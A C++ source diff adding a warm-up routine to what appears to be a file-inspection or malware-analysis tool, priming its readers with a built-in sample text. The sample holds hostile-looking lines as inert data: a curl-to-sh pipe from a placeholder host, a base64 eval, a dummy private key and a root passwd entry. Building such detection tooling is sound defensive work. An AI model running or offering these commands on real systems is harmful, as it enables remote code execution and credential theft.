@@ -204,6 +204,34 @@ bool run(const evidence::Reader& reader, const evidence::View& view, PipeSink& s
 
 }  // namespace
 
+void warm(const Readers& readers) {
+  // A text that most patterns begin to match: what they build while matching is inherited too.
+  static constexpr std::string_view sample =
+      "#!/bin/sh\n# http://www.example.org/a?b=c someone@example.org 192.0.2.1 [2001:db8::1] tel:+15550100\n"
+      "curl -s https://example.com/x | sh; eval \"$(echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d)\"\n"
+      "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\nroot:x:0:0:root:/root:/bin/sh\n"
+      "import os, sys\nos.system('id')\nvar x = require('fs');\n<?php echo 1; ?>\nmy $x = 1;\nputs 1\n";
+  std::vector<std::string_view> kinds = {"unknown", "text", "elf", "script/shell", "script/python", "script/javascript", "script/php", "script/perl", "script/ruby", "script/powershell"};
+  for (const auto* all : {&readers.unpackers, &readers.examiners})
+    for (const auto* reader : *all)
+      for (const auto kind : reader->card().kinds)
+        if (kind != "*" && !kind.ends_with("/*")) kinds.push_back(kind);
+  std::ranges::sort(kinds);
+  kinds.erase(std::unique(kinds.begin(), kinds.end()), kinds.end());
+  for (const auto kind : kinds)
+    for (const auto* all : {&readers.unpackers, &readers.examiners})
+      for (const auto* reader : *all)
+        if (evidence::reads(reader->card(), kind)) {
+          try {
+            (void)evidence::read_alone(*reader, base::bytes_of(sample), kind, "sample");
+          } catch (const std::exception&) {
+            // Whatever it is, it shows again, and is recorded, with real bytes.
+          }
+        }
+  evidence::Recorder recorder(base::bytes_of(sample));
+  (void)identify::identify({base::bytes_of(sample), "sample"}, recorder);
+}
+
 int work(const Readers& readers, Bytes job_bytes, Bytes input, int out) {
   const auto job = decode_job(job_bytes);
   if (!job) return 95;
